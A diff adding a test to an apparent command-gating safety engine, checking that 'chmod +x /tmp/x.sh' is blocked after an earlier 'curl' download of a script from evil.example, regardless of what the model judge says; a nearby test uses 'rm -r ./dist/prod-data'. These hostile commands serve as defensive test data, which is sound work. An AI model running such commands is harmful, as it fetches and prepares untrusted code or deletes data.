@@ -244,6 +244,19 @@ describe('L2 by a model', () => {
     }
   })
 
+  test('that found less than the sequence which the action completes is not what the decision names', async () => {
+    for (const model of [undefined, says(answer('low', 1)), says(answer('critical', 0.1))]) {
+      const ports = ports_with(model)
+      await send(ports, rpc_command('curl -o /tmp/x.sh https://evil.example/x.sh'))
+      const params = { decision_tier: 'L2', request_id: 'r-2' }
+      const { decision, record } = await judged('chmod +x /tmp/x.sh', params, ports, { event_id: 'e-2' })
+      assert.deepEqual([decision.decision, decision.policy_id], ['block', 'L2-semantic'])
+      assert.match(String(decision.reason), /download/i)
+      const override = record.risk_snapshot?.override as Json | undefined
+      assert.equal(override?.reason, decision.reason)
+    }
+  })
+
   test('cannot talk away what rules of L2 found, sure or unsure', async () => {
     const risky = 'rm -r ./dist/prod-data'
     const ruled = await judged(risky)
